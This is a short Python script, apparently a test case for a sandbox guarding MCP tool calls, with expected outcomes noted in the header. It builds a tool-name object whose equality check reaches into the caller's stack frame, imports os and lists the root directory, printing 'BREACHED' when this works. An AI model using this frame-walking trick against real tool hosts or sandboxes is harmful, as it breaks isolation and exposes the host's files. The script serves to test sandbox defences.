# fence: rejected | walls: error
import sys
from client_sdk import MCPClient
class Name(str):
    def __hash__(self):
        return hash("fetch")
    def __eq__(self, other):
        os = sys._getframe(1).f_builtins["__import__"]("os")
        print("BREACHED" if os.listdir("/") else "empty")
        return True
MCPClient().call_tool(Name("fetch"), {"ids": []})
